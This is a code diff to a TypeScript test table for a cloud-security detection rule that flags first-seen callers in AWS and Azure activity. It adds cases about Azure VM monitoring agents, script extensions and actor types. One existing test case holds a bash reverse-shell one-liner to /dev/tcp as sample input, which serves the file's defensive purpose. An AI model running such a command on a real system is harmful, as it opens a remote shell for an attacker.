@@ -1,12 +1,18 @@
 import { FAMILIES } from '../../../shared/model/operation'
 import { DAY, HOUR, MINUTE } from '../../../shared/model/time'
 import { firstSeenCaller } from '../../../shared/rules/first-seen-caller'
-import { awsActivity, azureActivity, NOON, principal } from '../../support/activity'
+import { awsActivity, azureActivity, azureUser, NOON, principal } from '../../support/activity'
 import { findingOf, from, listed, machines, ruleTable, text } from './rule-cases'
 
 const now = awsActivity({ id: 'now' })
 const earlier = (ms: number, given: Parameters<typeof awsActivity>[0] = {}) => awsActivity({ id: 'earlier', at: NOON - ms, ...given })
 const service = principal({ key: 'aws:service/events.amazonaws.com', kind: 'service', display: 'events.amazonaws.com', homeAccount: null, human: false, aliases: [] })
+
+const AGENT = 'Microsoft.Azure.Monitor/AzureMonitorLinuxAgent'
+
+/** An extension by an application, named by its type where that could be read. */
+const agent = (name: string, given: Parameters<typeof awsActivity>[0] = {}) =>
+  azureActivity({ id: 'now', operation: 'microsoft.compute/virtualmachines/extensions/write', family: 'extension', item: 'Monitoring', document: { name, version: '1.10', owner: null }, actor: azureUser({ kind: 'service-principal', human: false }), ...given })
 
 ruleTable(firstSeenCaller, [
   { name: 'nobody was ever seen', activity: now, expected: 'medium' },
@@ -33,6 +39,15 @@ ruleTable(firstSeenCaller, [
   { name: 'what Systems Manager does by itself teaches nothing', before: [earlier(HOUR, { automatic: true })], activity: now, expected: 'medium' },
   { name: 'a command by another service is judged', activity: { ...now, actor: service }, expected: 'medium' },
   { name: 'a call rated high by its text does not make its caller known', before: [earlier(HOUR, text('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'))], activity: now, expected: 'medium' },
+  { name: 'an application rolls out an agent whose type was read', activity: agent(AGENT), expected: 'low' },
+  { name: 'and did so yesterday', before: [agent(AGENT, { id: 'earlier', at: NOON - DAY })], activity: agent(AGENT), expected: null },
+  { name: 'an application writes an extension of which only the name is known', activity: agent('AzureMonitorLinuxAgent'), expected: 'medium' },
+  { name: 'an application writes a script extension', activity: agent('Microsoft.Azure.Extensions/CustomScript'), expected: 'medium' },
+  { name: 'an agent of yesterday makes nobody known who writes a script extension', before: [agent(AGENT, { id: 'earlier', at: NOON - DAY })], activity: agent('Microsoft.Azure.Extensions/CustomScript'), expected: 'medium' },
+  { name: 'a known agent with a script of its own', activity: agent(AGENT, text('whoami')), expected: 'medium' },
+  { name: 'a script runner named in the path', activity: agent(AGENT, { item: 'RunCommandLinux' }), expected: 'medium' },
+  { name: 'a person rolls out an agent', activity: agent(AGENT, { actor: azureUser() }), expected: 'medium' },
+  { name: 'somebody of whom nothing is known does', activity: agent(AGENT, { actor: azureUser({ human: null }) }), expected: 'medium' },
   { name: 'a sighting of the same millisecond with a smaller id is earlier', before: [awsActivity({ id: 'a' })], activity: awsActivity({ id: 'b' }), expected: null },
   { name: 'a sighting of the same millisecond with a greater id is later', before: [awsActivity({ id: 'b' })], activity: awsActivity({ id: 'a' }), expected: 'medium' },
   { name: 'a later call that arrived before it does not make it known', before: [awsActivity({ id: 'later', at: NOON + MINUTE })], activity: now, expected: 'medium' },
